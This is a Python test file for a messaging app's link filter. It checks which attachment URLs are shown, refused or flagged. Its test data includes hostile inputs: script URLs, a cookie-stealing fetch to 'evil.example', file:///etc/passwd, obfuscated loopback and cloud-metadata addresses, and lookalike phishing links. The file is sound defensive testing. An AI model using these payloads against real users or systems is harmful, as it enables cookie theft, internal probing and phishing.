"""The link policy: which attachment targets are shown, and which are refused with a reason."""

from __future__ import annotations

import pytest

from tui.domain.links import MAX_SHOWN, check_link


@pytest.mark.parametrize(
    "url",
    [
        "https://scontent.xx.fbcdn.net/v/t1.15752-9/123_n.jpg?_nc_cat=1&oh=sim",
        "http://example.com/menu.pdf",
        "HTTPS://Example.COM:8443/a?b=c#d",
        "https://lookaside.fbsbx.com/ig_messaging_cdn/?asset_id=179",
        "  https://example.org/padded  ",
        "http://8.8.8.8/",
        "http://example.com./",
    ],
)
def test_public_http_links_are_shown(url: str) -> None:
    verdict = check_link(url)
    assert verdict.ok, verdict.reason
    assert verdict.reason is None
    assert verdict.shown == url.strip()


@pytest.mark.parametrize(
    ("url", "reason"),
    [
        ("javascript:alert(1)", "javascript: links are never shown"),
        ("JaVaScRiPt:alert(1)", "javascript: links are never shown"),
        ("  \x01\x1bjavascript:alert(1)", "javascript: links are never shown"),
        ("java\tscr\nipt:alert(1)", "javascript: links are never shown"),
        ("file:///etc/passwd", "file: links are never shown"),
        ("FILE://C:/Windows/win.ini", "file: links are never shown"),
        ("data:text/html;base64,PHNjcmlwdD4=", "data: links are never shown"),
        ("vbscript:msgbox(1)", "vbscript: links are never shown"),
        ("blob:https://example.com/uuid", "blob: links are never shown"),
        ("ftp://example.com/x", "only http and https links are shown"),
        ("//example.com/x", "not an absolute http(s) link"),
        ("", "empty link"),
        ("http://localhost/", "loopback address"),
        ("http://localhost./admin", "loopback address"),
        ("http://LOCALHOST:8080", "loopback address"),
        ("http://app.localhost/", "loopback address"),
        ("http://127.0.0.1/", "loopback address"),
        ("http://127.1", "loopback address"),
        ("http://0x7f.1", "loopback address"),
        ("http://0x7f000001/", "loopback address"),
        ("http://2130706433", "loopback address"),
        ("http://0177.0.0.1", "loopback address"),
        ("http://127.255.255.254/", "loopback address"),
        ("http://[::1]/", "loopback address"),
        ("http://[::ffff:127.0.0.1]/", "loopback address"),
        ("http://user:pw@127.0.0.1:80/", "loopback address"),
        ("http:\\\\localhost\\x", "loopback address"),
        ("http:localhost", "loopback address"),
        ("http://%6c%6fcalhost/", "loopback address"),
        ("http://ｌｏｃａｌｈｏｓｔ/", "loopback address"),
        ("http://127。0。0。1/", "loopback address"),
        ("http://0.0.0.0:8000/", "unspecified address"),
        ("http://0/", "unspecified address"),
        ("http://[::]/", "unspecified address"),
        ("http://169.254.169.254/latest/meta-data", "link-local address"),
        ("http://[fe80::1]/", "link-local address"),
        ("http://10.0.0.1/", "private network address"),
        ("http://192.168.1.1/", "private network address"),
        ("http://1.2.3.4.5/", "malformed address"),
        ("http://256.1.1.1/", "malformed address"),
        ("http://[::1/", "no host"),
        ("http:///", "no host"),
        ("https://example.com/\u202etxt.exe", "hidden control characters"),
    ],
)
def test_dangerous_targets_are_refused_with_a_reason(url: str, reason: str) -> None:
    verdict = check_link(url)
    assert not verdict.ok
    assert verdict.reason == reason
    assert verdict.shown == f"[link refused: {reason}]"


def test_a_refused_link_never_shows_its_target() -> None:
    verdict = check_link("javascript:fetch('//evil.example/'+document.cookie)")
    assert "evil" not in verdict.shown


def test_non_text_is_refused() -> None:
    assert check_link(None).reason == "not text"


def test_very_long_links_are_cut() -> None:
    url = "https://example.com/" + "a" * 1_000_000
    verdict = check_link(url)
    assert verdict.ok
    assert len(verdict.shown) == MAX_SHOWN
    assert verdict.shown.endswith("…")


def _drawn(message: object) -> str:
    from tui.widgets.history import Entry, entry_lines

    lines = entry_lines(Entry(message=message), 200, platform="messenger", name="Eve")  # type: ignore[arg-type]
    return "\n".join(line.plain for line in lines)


def test_links_that_hide_their_host_show_the_real_one_and_are_marked() -> None:
    from tui.domain.links import check_link

    userinfo = check_link("https://www.paypal.com@evil.example/login")
    assert userinfo.ok and userinfo.host == "evil.example"
    assert userinfo.warning and "evil.example" in userinfo.warning
    lookalike = check_link("https://аpple.com/id")  # Cyrillic а
    assert lookalike.ok and lookalike.host == "xn--pple-43d.com"
    assert lookalike.warning and "xn--pple-43d.com" in lookalike.warning
    plain = check_link("https://apple.com/id")
    assert plain.ok and plain.warning is None and plain.host == "apple.com"


def test_attachment_names_with_controls_keep_their_name_and_the_real_host_shows() -> None:
    from datetime import UTC, datetime

    from tui.domain import Attachment, InboxMessage

    message = InboxMessage(
        account_id="bakery",
        remote_id="m1",
        conversation_id="t1",
        sender_id="psid",
        created_at=datetime(2026, 11, 25, tzinfo=UTC),
        text="see attached",
        attachments=(
            Attachment(
                kind="file", url="https://cdn.example/in\x1bvoice.pdf", name="in\x1bvoice.pdf"
            ),
            Attachment(kind="share", url="https://bank.example@evil.example/", name="Your bank"),
        ),
    )
    drawn = _drawn(message)
    assert "in⟨ESC⟩voice.pdf" in drawn, drawn
    assert "Your bank" in drawn and "⚠ goes to evil.example" in drawn
    assert "\x1b" not in drawn
